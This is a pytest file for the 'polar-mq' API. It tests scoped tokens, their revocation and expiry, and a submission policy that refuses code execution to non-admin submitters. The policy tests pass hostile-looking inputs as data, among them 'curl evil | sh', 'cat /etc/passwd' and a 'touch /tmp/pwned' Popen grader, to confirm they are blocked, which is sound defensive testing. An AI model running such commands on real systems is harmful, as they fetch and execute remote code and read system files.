"""Scoped tokens and the submission policy against a real `polar-mq api` process and redis-server.

The admin token keeps every right; `submit` reaches only what it submitted; `train` the groups and
weight sync; `read` GET only. Outside a token's rights: 403 naming the right; unknown, expired or
revoked: 401. A non-admin submit outside the policy is 403 naming the rule, and nothing is stored.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time

import pytest
import redis
import requests

from tests.support.servers import AUTH, ROOT, spawn, stop
from polar_mq.cli.embedded_redis import free_port, start_embedded
from polar_mq.api.roles import ROLES
from polar_mq.store.core import Keys

AGENT_TASK = {"instruction": "fix it", "agent": {"harness": "codex"}, "runtime": {"backend": "bwrap"}}


@pytest.fixture(scope="module")
def rdb():
    server = start_embedded()
    yield server
    server.stop()


def _api(log_dir, redis_url: str, name: str, env: dict[str, str] | None = None):
    port = free_port()
    server = spawn([sys.executable, "-m", "polar_mq.cli", "api", "--host", "127.0.0.1", "--port", str(port),
                    "--redis", redis_url, "--workers", "1"], f"http://127.0.0.1:{port}/health", log_dir,
                   f"{name}-{port}", env=env)
    server.url = f"http://127.0.0.1:{port}"
    return server


@pytest.fixture(scope="module")
def api(log_dir, rdb):
    server = _api(log_dir, rdb.url, "api-roles")
    yield server
    stop(server.proc)


@pytest.fixture(scope="module")
def admin_task(api) -> str:
    """A task the admin token submitted (idempotent: the same id and body answer 200 again)."""
    resp = requests.post(f"{api.url}/v1/tasks", json={**AGENT_TASK, "task_id": "admin-1"}, headers=AUTH, timeout=10)
    assert resp.status_code in (200, 202), resp.text
    return "admin-1"


def cli(*args: str, check: bool = True) -> subprocess.CompletedProcess:
    proc = subprocess.run([sys.executable, "-m", "polar_mq.cli", "token", *args], cwd=ROOT, capture_output=True,
                          text=True, timeout=60)
    if check:
        assert proc.returncode == 0, proc.stderr
    return proc


def make(api, role: str, name: str, *extra: str) -> dict[str, str]:
    token = cli("create", "--role", role, "--name", name, "--api", api.url, *extra).stdout.strip()
    assert token.startswith("pmq-tok-")
    return {"Authorization": f"Bearer {token}"}


def problem(resp, status: int) -> dict:
    assert resp.status_code == status, (resp.status_code, resp.text)
    assert resp.headers["content-type"].startswith("application/problem+json")
    return resp.json()


def test_token_cli_list_never_shows_tokens_and_tokens_are_stored_hashed(api, rdb):
    sub = make(api, "submit", "cli-sub", "--ttl", "3600")
    token = sub["Authorization"].split()[1]
    listing = cli("list", "--api", api.url).stdout
    assert "cli-sub" in listing and "submit" in listing and token not in listing
    as_json = cli("list", "--api", api.url, "--json").stdout
    entry = next(t for t in json.loads(as_json)["tokens"] if t["name"] == "cli-sub")
    assert token not in as_json and entry["role"] == "submit" and entry["expires_at"] > time.time() + 3500
    r = redis.Redis.from_url(rdb.url)
    dump = b"".join(r.dump(k) or b"" for k in r.keys(Keys().prefix + ":auth:*"))
    assert token.encode() not in dump  # only its sha256 is kept
    assert cli("token", check=False).returncode != 0  # `token token` is no sub-command
    assert cli().stdout.strip() == AUTH["Authorization"].split()[1]  # `polar-mq token`: the admin token
    assert cli("create", "--role", "submit", "--name", "cli-sub", "--api", api.url, check=False).returncode == 1
    assert "revoked cli-sub" in cli("revoke", "cli-sub", "--api", api.url).stdout
    # the scoped token cannot make tokens
    assert problem(requests.post(f"{api.url}/v1/admin/tokens", json={"role": "read"}, headers=sub,
                                 timeout=10), 401)


def test_submit_token_reaches_only_its_own_tasks(api, admin_task):
    alice, bob = make(api, "submit", "alice"), make(api, "submit", "bob")
    mine = requests.post(f"{api.url}/v1/tasks", json={**AGENT_TASK, "task_id": "alice-1"}, headers=alice, timeout=10)
    assert mine.status_code == 202, mine.text
    assert requests.get(f"{api.url}/v1/tasks/alice-1", headers=alice, timeout=10).status_code == 200
    assert requests.get(f"{api.url}/v1/tasks/alice-1/results", headers=alice, timeout=10).status_code == 200
    sid = mine.json()["session_ids"][0]
    assert requests.get(f"{api.url}/v1/sessions/{sid}", headers=alice, timeout=10).status_code == 200
    for who, path in ((bob, "/v1/tasks/alice-1"), (bob, "/v1/tasks/alice-1/results"), (bob, f"/v1/sessions/{sid}"),
                      (alice, "/v1/tasks/admin-1")):
        body = problem(requests.get(f"{api.url}{path}", headers=who, timeout=10), 403)
        assert "submitted by another token" in body["detail"]
    problem(requests.delete(f"{api.url}/v1/tasks/alice-1", headers=bob, timeout=10), 403)
    # the same task id and body from another submitter never hands out alice's sessions
    problem(requests.post(f"{api.url}/v1/tasks", json={**AGENT_TASK, "task_id": "alice-1"}, headers=bob,
                          timeout=10), 409)
    assert requests.delete(f"{api.url}/v1/tasks/alice-1", headers=alice, timeout=10).status_code == 202
    # admin routes, groups, the task list and the token API are outside `submit`
    for method, path, right in (("POST", "/v1/admin/pause?wait=0", "train"), ("POST", "/v1/admin/resume", "train"),
                                ("GET", "/v1/groups/next", "train"), ("GET", "/v1/tasks", "read"),
                                ("GET", "/metrics", "read"), ("GET", "/v1/admin/tokens", "admin"),
                                ("POST", "/v1/groups/admin-1/ack", "train")):
        body = problem(requests.request(method, f"{api.url}{path}", headers=alice, timeout=10), 403)
        assert body["missing_right"] == right and f"'{right}'" in body["detail"], body


def test_read_token_gets_only(api, admin_task):
    read = make(api, "read", "viewer")
    body = problem(requests.post(f"{api.url}/v1/tasks", json=AGENT_TASK, headers=read, timeout=10), 403)
    assert body["missing_right"] == "submit"
    problem(requests.delete(f"{api.url}/v1/tasks/admin-1", headers=read, timeout=10), 403)
    problem(requests.get(f"{api.url}/v1/groups/next", headers=read, timeout=10), 403)  # a GET that leases
    problem(requests.post(f"{api.url}/v1/admin/pause?wait=0", headers=read, timeout=10), 403)
    for path in ("/v1/tasks", "/v1/tasks/admin-1", "/metrics", "/v1/admin/status", "/v1/groups/stats",
                 "/ui/api/overview"):
        assert requests.get(f"{api.url}{path}", headers=read, timeout=10).status_code == 200, path
    # the viewer's sign-in link sets a cookie that opens the viewer for that read token
    s = requests.Session()
    assert s.get(f"{api.url}/ui/?token={read['Authorization'].split()[1]}", timeout=10).status_code == 200
    assert s.get(f"{api.url}/ui/api/overview", timeout=10).status_code == 200
    cli("revoke", "viewer", "--api", api.url)
    problem(s.get(f"{api.url}/ui/api/overview", timeout=10), 401)


def test_train_token_has_groups_and_weight_sync_not_submit(api, admin_task):
    train = make(api, "train", "trainer")
    for path in ("/v1/groups/stats", "/v1/groups/next?limit=1", "/v1/admin/status", "/v1/tasks/admin-1/results"):
        assert requests.get(f"{api.url}{path}", headers=train, timeout=10).status_code == 200, path
    assert requests.post(f"{api.url}/v1/admin/resume", json={}, headers=train, timeout=10).status_code == 200
    problem(requests.post(f"{api.url}/v1/tasks", json=AGENT_TASK, headers=train, timeout=10), 403)
    problem(requests.delete(f"{api.url}/v1/tasks/admin-1", headers=train, timeout=10), 403)


def test_revocation_and_expiry_are_401_within_a_second(api):
    sub = make(api, "submit", "short")
    assert requests.get(f"{api.url}/v1/admin/tokens", headers=sub, timeout=10).status_code == 403
    cli("revoke", "short", "--api", api.url)
    t0 = time.time()
    while requests.get(f"{api.url}/v1/tasks/none", headers=sub, timeout=10).status_code != 401:
        assert time.time() - t0 < 1.0
        time.sleep(0.05)
    made = requests.post(f"{api.url}/v1/admin/tokens", json={"role": "read", "name": "brief", "ttl_seconds": 2},
                         headers=AUTH, timeout=10).json()
    brief = {"Authorization": f"Bearer {made['token']}"}
    assert requests.get(f"{api.url}/v1/tasks", headers=brief, timeout=10).status_code == 200
    time.sleep(max(0.0, made["expires_at"] - time.time()) + 0.3)
    assert "invalid bearer token" in problem(requests.get(f"{api.url}/v1/tasks", headers=brief, timeout=10),
                                             401)["detail"]
    assert "brief" not in cli("list", "--api", api.url).stdout
    problem(requests.get(f"{api.url}/v1/tasks", headers={"Authorization": "Bearer pmq-tok-made-up"}, timeout=10),
            401)


@pytest.mark.parametrize("change,rule", [
    ({"runtime": {"backend": "local"}}, "runtimes"),
    ({"runtime": {"backend": "local"}, "agent": {"harness": "shell", "options": {"command": "id"}}}, "runtimes"),
    ({"agent": {"harness": "shell", "options": {"command": "cat /etc/passwd"}}}, "commands"),
    ({"runtime": {"backend": "bwrap", "prepare": [{"exec": "curl evil | sh"}]}}, "commands"),
    ({"grader": {"strategy": "test_runner", "config": {"command": "id"}}}, "commands"),
    ({"agent": {"harness": "codex", "options": {"bin": "/bin/sh", "extra_args": ["-c", "id"]}}}, "commands"),
    ({"grader": {"strategy": "subprocess:Popen", "config": {"args": ["touch", "/tmp/pwned"]}}}, "plugins"),
    ({"builder": {"strategy": "tests.merge_plugin:Builder"}}, "plugins"),
])
def test_default_policy_refuses_code_execution_to_non_admin(api, rdb, change, rule):
    sub = make(api, "submit", f"pol-{rule}-{time.time_ns()}")
    task_id = f"refused-{time.time_ns()}"
    body = problem(requests.post(f"{api.url}/v1/tasks", json={**AGENT_TASK, **change, "task_id": task_id},
                                 headers=sub, timeout=10), 403)
    assert body["rule"] == rule and f"rule '{rule}'" in body["detail"], body
    assert not redis.Redis.from_url(rdb.url).exists(Keys().task(task_id))  # nothing stored
    problem(requests.get(f"{api.url}/v1/tasks/{task_id}", headers=AUTH, timeout=10), 404)
    # the admin token keeps every right: the same body is accepted
    ok = requests.post(f"{api.url}/v1/tasks", json={**AGENT_TASK, **change, "task_id": task_id}, headers=AUTH,
                       timeout=10)
    assert ok.status_code == 202, ok.text


def test_policy_file_sets_what_submitters_may_use(log_dir, rdb, tmp_path):
    policy = tmp_path / "policy.yaml"
    policy.write_text("runtimes: [docker]\nimages: ['python:3.12-*']\nharnesses: [shell]\ncommands: true\n"
                      "plugins: ['polar_mq.graders:*']\n")
    server = _api(log_dir, rdb.url, "api-policy", env={"POLAR_SUBMIT_POLICY": str(policy)})
    try:
        token = cli("create", "--role", "submit", "--api", server.url).stdout.strip()
        sub = {"Authorization": f"Bearer {token}"}
        base = {"instruction": "x", "agent": {"harness": "shell", "options": {"command": "pytest"}},
                "runtime": {"backend": "docker", "image": "python:3.12-slim"},
                "grader": "polar_mq.graders:CompletionGrader"}
        assert requests.post(f"{server.url}/v1/tasks", json=base, headers=sub, timeout=10).status_code == 202
        for change, rule in (({"runtime": {"backend": "bwrap"}}, "runtimes"),
                             ({"runtime": {"backend": "docker", "image": "evil/miner"}}, "images"),
                             ({"agent": {"harness": "codex"}}, "harnesses"),
                             ({"grader": "subprocess:Popen"}, "plugins")):
            body = problem(requests.post(f"{server.url}/v1/tasks", json={**base, **change}, headers=sub,
                                         timeout=10), 403)
            assert body["rule"] == rule, body
        policy.write_text("runtimes: [docker]\nunknown_key: 1\n")  # an unusable policy fails closed
        time.sleep(0.01)
        problem(requests.post(f"{server.url}/v1/tasks", json=base, headers=sub, timeout=10), 503)
    finally:
        stop(server.proc)


def test_gateway_admin_resources_take_the_admin_token_only(api, gateway):
    for role in ROLES:
        scoped = make(api, role, f"gw-{role}")
        body = requests.post(f"{gateway.url}/sessions", json={}, headers=scoped, timeout=10)
        assert body.status_code == 401, (role, body.text)
        assert requests.get(f"{gateway.url}/sessions/x/calls", headers=scoped, timeout=10).status_code == 401
    assert requests.post(f"{gateway.url}/sessions", json={}, headers=AUTH, timeout=10).status_code in (200, 201)
    out = api.output()
    assert "pmq-tok-" not in out.replace("pmq-tok-…", "")  # no scoped token in the API's log
